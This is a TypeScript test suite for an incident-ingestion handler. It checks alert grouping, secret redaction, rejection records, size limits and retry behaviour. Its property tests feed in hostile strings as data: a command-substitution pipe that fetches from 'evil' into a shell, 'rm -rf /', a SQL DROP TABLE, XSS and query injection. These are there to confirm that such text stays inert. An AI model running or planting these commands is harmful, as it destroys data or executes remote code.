import fc from "fast-check";
import { describe, expect, it, vi } from "vitest";
import { Unreachable } from "../../../kernel/ports.ts";
import type { IncidentId } from "../../../kernel/types/index.ts";
import type { Ports } from "../../../lambdas/ingest/handler.ts";
import { anAlert, bodyOf, type Json, memory, now, policy, send } from "./support.ts";

const other = (workload: string) => anAlert({}, { workload });
const bad = anAlert({}, { cluster: "" });
const foreign = anAlert({}, { cluster: "elsewhere" });
const ended = (workload = "checkout") => anAlert({ status: "resolved", endsAt: "2026-11-02T09:20:00Z" }, { workload });

describe("a delivery", () => {
  it("becomes one incident for each thing that it is about", async () => {
    const { ports, openings, started } = memory();
    const { status, body } = await send({ body: bodyOf([anAlert(), other("cart"), anAlert({ startsAt: "2026-11-02T09:10:00Z" })]) }, ports);
    expect(status).toBe(200);
    expect(body).toMatchObject({ accepted: [{ alerts: 2 }, { alerts: 1 }], rejected: [], ignored: [], truncated: 0 });
    expect(openings.map(({ scope, alerts }) => [scope, alerts.length])).toEqual([
      [{ of: "owner", namespace: "payments", kind: "Deployment", name: "checkout" }, 2],
      [{ of: "owner", namespace: "payments", kind: "Deployment", name: "cart" }, 1],
    ]);
    expect(started).toEqual(body.accepted.map(({ incident }) => incident));
  });

  it("is archived before anything else, and every alert knows where", async () => {
    const { ports, openings, bodies } = memory();
    const put = vi.fn(ports.archive.put);
    await send({ body: bodyOf([anAlert()]) }, { ...ports, archive: { put } });
    expect(bodies).toEqual([bodyOf([anAlert()])]);
    expect(openings[0]?.alerts[0].body).toBe(await put.mock.results[0]?.value);
    expect(openings[0]?.policy).toBe(policy.version);
  });

  it("leaves no secret behind: not in the archive, not in the ledger", async () => {
    const token = `ghp_${"a1B2".repeat(9)}`;
    const { ports, openings, bodies } = memory();
    await send(
      { body: bodyOf([anAlert({ annotations: { note: `curl -H 'Authorization: Bearer ${token}'` } }, { severity: token })]) },
      ports,
    );
    expect(bodies).toHaveLength(1);
    expect(openings).toHaveLength(1);
    expect(JSON.stringify([bodies, openings])).not.toContain(token);
  });

  it("is not taken at all over 5 MiB, and says so in the log", async () => {
    const { ports, lines, bodies } = memory();
    const { status, body } = await send({ body: bodyOf([anAlert({ annotations: { note: "ü".repeat(2_700_000) } })]) }, ports);
    expect([status, bodies.length]).toEqual([413, 0]);
    expect(body.error).toContain("5 MiB");
    expect(lines).toMatchObject([{ level: "error" }]);
  });

  it("that cannot be read is answered and on record", async () => {
    const { ports, rejections } = memory();
    const { status, body } = await send({ body: "<html>" }, ports);
    expect(status).toBe(422);
    expect(body).toEqual({ error: "body is not JSON" });
    expect(rejections).toMatchObject([{ at: now, index: 0, reason: "the whole delivery: body is not JSON" }]);
  });

  it("comes from SNS and from people as well", async () => {
    const { ports, openings } = memory();
    const sns = JSON.stringify({ Type: "Notification", Message: bodyOf([anAlert()], { version: undefined }) });
    expect(await send({ source: "sns", body: sns }, ports)).toMatchObject({ status: 200 });
    const manual = JSON.stringify({ manual: { cluster: "practice", scenario: "agent-restarts", node: "n1" } });
    expect(await send({ source: "manual", body: manual }, ports)).toMatchObject({ status: 200 });
    expect(openings.map(({ alerts }) => alerts[0].from)).toEqual(["alertmanager", "manual"]);
  });
});

describe("an alert that is not taken", () => {
  it("is named, is on record, and hides no sibling", async () => {
    const { ports, rejections, openings } = memory();
    const { status, body } = await send({ body: bodyOf([7, anAlert(), bad, foreign]) }, ports);
    expect(status).toBe(200);
    expect(body.accepted).toHaveLength(1);
    expect(body.rejected).toMatchObject([
      { index: 0, field: "alert" },
      { index: 2, field: "labels.cluster" },
      { index: 3, field: "labels.cluster", reason: expect.stringContaining("the token practice may speak for") },
    ]);
    expect(rejections.map(({ index }) => index).sort()).toEqual([0, 2, 3]);
    expect(rejections[0]).toMatchObject({ reason: "alert must be an object with status, labels and startsAt" });
    expect(openings).toHaveLength(1);
  });

  it("is of a cluster that the policy does not name, where it names any: nobody could look into it", async () => {
    const { ports, openings } = memory();
    const place = { region: "eu-west-1", eks: "practice", access: { entries: "made" } } as const;
    const named = { ...ports, policy: { ...policy, clusters: { practice: place } } };
    const sender = { name: "all", clusters: ["*"] };
    const { status, body } = await send({ sender, body: bodyOf([foreign, anAlert(), anAlert({}, { cluster: "constructor" })]) }, named);
    const reason = "must be a cluster that the policy names";
    expect(status).toBe(200);
    expect(body.rejected).toMatchObject([0, 2].map((index) => ({ index, field: "labels.cluster", reason })));
    expect(openings.map(({ cluster }) => cluster)).toEqual(["practice"]);
  });

  it("makes 422 where no alert is any better", async () => {
    const { status, body } = await send({ body: bodyOf([bad, 7]) }, memory().ports);
    expect(status).toBe(422);
    expect(body.rejected?.map(({ index }) => index)).toEqual([0, 1]);
  });

  it("makes 403 where all are for clusters that are not the token's", async () => {
    expect(await send({ body: bodyOf([foreign, foreign]) }, memory().ports)).toMatchObject({ status: 403 });
    expect(await send({ body: bodyOf([foreign, bad]) }, memory().ports)).toMatchObject({ status: 422 });
    expect(await send({ body: bodyOf([anAlert()]), sender: { name: "none", clusters: [] } }, memory().ports)).toMatchObject({
      status: 403,
    });
  });
});

describe("an alert that asks for nothing", () => {
  it("is our own: on record, and never an incident", async () => {
    const { ports, openings, rejections } = memory();
    const { status, body } = await send({ body: bodyOf([anAlert({}, { alertname: "RemediatorApprovalWaiting" })]) }, ports);
    expect(status).toBe(200);
    expect(body).toMatchObject({ accepted: [], rejected: [], ignored: [{ index: 0 }] });
    expect([openings.length, rejections.length]).toEqual([0, 1]);
  });

  it("is resolved, and nothing is open for it", async () => {
    const { ports, started } = memory();
    const { status, body } = await send({ body: bodyOf([ended()]) }, ports);
    expect(status).toBe(200);
    expect(body).toMatchObject({ accepted: [], ignored: [{ index: 0, reason: expect.stringContaining("resolved") }] });
    expect(started).toEqual([]);
  });
});

describe("a resolved alert", () => {
  it("wakes who waits for an answer; one that fires does not", async () => {
    const { ports, woken, openings } = memory();
    await send({ body: bodyOf([anAlert(), other("cart")]) }, ports);
    expect(woken).toEqual([]);
    const { body } = await send({ body: bodyOf([ended(), other("cart")]) }, ports);
    expect(woken).toEqual([`token of ${body.accepted[0]?.incident}`]);
    expect(openings[2]?.alerts[0]).toMatchObject({ status: "resolved", endsAt: "2026-11-02T09:20:00.000Z" });
  });
});

describe("what the sender left out", () => {
  it("is said and on record", async () => {
    const { ports, rejections } = memory();
    const { body } = await send({ body: bodyOf([anAlert(), bad], { truncatedAlerts: 40 }) }, ports);
    expect(body.truncated).toBe(40);
    expect(rejections).toContainEqual(expect.objectContaining({ index: 2, reason: expect.stringContaining("left out 40 alerts") }));
  });
});

describe("trouble", () => {
  const failing = (change: (ports: Ports) => Partial<Ports>) => {
    const all = memory();
    return { ...all, ports: { ...all.ports, ...change(all.ports) } };
  };
  const unreachable = async (): Promise<never> => {
    throw new Unreachable("no answer");
  };

  it.each<[string, (ports: Ports) => Partial<Ports>]>([
    ["the archive", () => ({ archive: { put: () => Promise.reject(new Error("ENOSPC")) } })],
    ["opening", ({ ledger }) => ({ ledger: { ...ledger, openOrJoin: unreachable } })],
    ["noting a rejected alert", ({ ledger }) => ({ ledger: { ...ledger, reject: unreachable } })],
  ])("with %s is 503, so that it is sent again", async (_what, change) => {
    const { status, headers, body } = await send({ body: bodyOf([anAlert(), bad]) }, failing(change).ports);
    expect([status, headers["retry-after"]]).toEqual([503, "10"]);
    expect(body).not.toHaveProperty("accepted");
  });

  it("with one incident leaves the others on record, and started", async () => {
    const { ports, openings, started } = failing(({ ledger }) => ({
      ledger: { ...ledger, openOrJoin: (opening, at) => (opening.scope.of === "node" ? unreachable() : ledger.openOrJoin(opening, at)) },
    }));
    const { status } = await send({ body: bodyOf([anAlert({}, { scope: "node", node: "n1" }), anAlert(), other("cart")]) }, ports);
    expect([status, openings.length, started.length]).toEqual([503, 2, 2]);
  });

  it("that will not pass is thrown, though other trouble would pass", async () => {
    const { ports } = failing(({ ledger }) => ({
      ledger: { ...ledger, openOrJoin: ({ scope }) => (scope.of === "node" ? unreachable() : Promise.reject(new RangeError("broken"))) },
    }));
    await expect(send({ body: bodyOf([anAlert({}, { scope: "node", node: "n1" }), anAlert()]) }, ports)).rejects.toThrow(RangeError);
  });

  it("with starting is none: the record is there", async () => {
    const { ports, lines } = failing(() => ({ starter: { start: unreachable } }));
    const { status, body } = await send({ body: bodyOf([anAlert()]) }, ports);
    expect([status, body.accepted.length]).toEqual([200, 1]);
    expect(lines).toContainEqual(expect.objectContaining({ level: "error", incident: body.accepted[0]?.incident as IncidentId }));
  });

  it("with a start that never answers does not keep the sender waiting", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
    const asked = Promise.withResolvers<void>();
    const { ports } = failing(() => ({
      starter: {
        start: () => {
          asked.resolve();
          return new Promise<never>(() => {});
        },
      },
    }));
    const settled = vi.fn();
    const answer = send({ body: bodyOf([anAlert()]) }, ports).finally(settled);
    await asked.promise;
    await vi.advanceTimersByTimeAsync(4900);
    expect(settled).not.toHaveBeenCalled();
    await vi.advanceTimersByTimeAsync(200);
    expect(await answer).toMatchObject({ status: 200 });
    vi.useRealTimers();
  });
});

describe("any mix of good and bad alerts", () => {
  const labels = fc.constantFrom<Json>(
    { cluster: "" },
    { cluster: "elsewhere" },
    { scope: "x" },
    { namespace: "<b>x</b>" },
    { workload: '"} or vector(1)' },
    { scenario: "; rm -rf /" },
    { workload: 5 },
  );
  const broken = fc.oneof(
    fc.anything({ maxDepth: 1 }),
    labels.map((change) => anAlert({}, change)),
    fc.constantFrom(anAlert({ startsAt: "x" }), anAlert({ status: "resolved" }), anAlert({ labels: {} })),
  );
  const good = fc.integer({ min: 0, max: 5 }).map((n) => anAlert({ annotations: { n } }, { workload: `w-${n}` }));
  const one = fc.oneof(
    good.map((alert) => ({ good: true, alert: alert as unknown })),
    broken.map((alert) => ({ good: false, alert })),
  );

  it("has every good one accepted and every bad one named, in the answer and on record", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(one, { minLength: 1, maxLength: 12 }), async (mix) => {
        const { ports, openings, rejections } = memory();
        const { status, body } = await send({ body: bodyOf(mix.map(({ alert }) => alert ?? null)) }, ports);
        const wanted = mix.flatMap(({ good: taken }, index) => (taken ? [] : [index]));
        const accepted = mix.length - wanted.length;
        expect(status === 200).toBe(accepted > 0);
        expect((body.rejected ?? []).map(({ index }) => index)).toEqual(wanted);
        expect(rejections.map(({ index }) => index).sort((a, b) => a - b)).toEqual(wanted);
        expect(openings.flatMap(({ alerts }) => alerts)).toHaveLength(accepted);
        expect((body.accepted ?? []).reduce((sum, { alerts }) => sum + alerts, 0)).toBe(accepted);
      }),
      { numRuns: 150 },
    );
  });

  it("keeps free text as data: what is hostile in it stays in its label, as it was", async () => {
    const hostile = fc.constantFrom(
      "<img src=x onerror=alert(1)>",
      '"} or vector(1) or {x="',
      "app in (a,b)",
      "$(curl evil | sh)",
      "'; DROP TABLE records; --",
      "line\nbreak\u0000",
      "`id`",
      "{{ .Labels }}",
    );
    await fc.assert(
      fc.asyncProperty(hostile, hostile, async (severity, alertname) => {
        const { ports, openings } = memory();
        expect(await send({ body: bodyOf([anAlert({}, { severity, alertname })]) }, ports)).toMatchObject({ status: 200 });
        expect(openings[0]?.alerts[0].labels).toMatchObject({ severity, alertname });
        expect(openings[0]?.scope).toEqual({ of: "owner", namespace: "payments", kind: "Deployment", name: "checkout" });
      }),
      { numRuns: 64 },
    );
  });
});
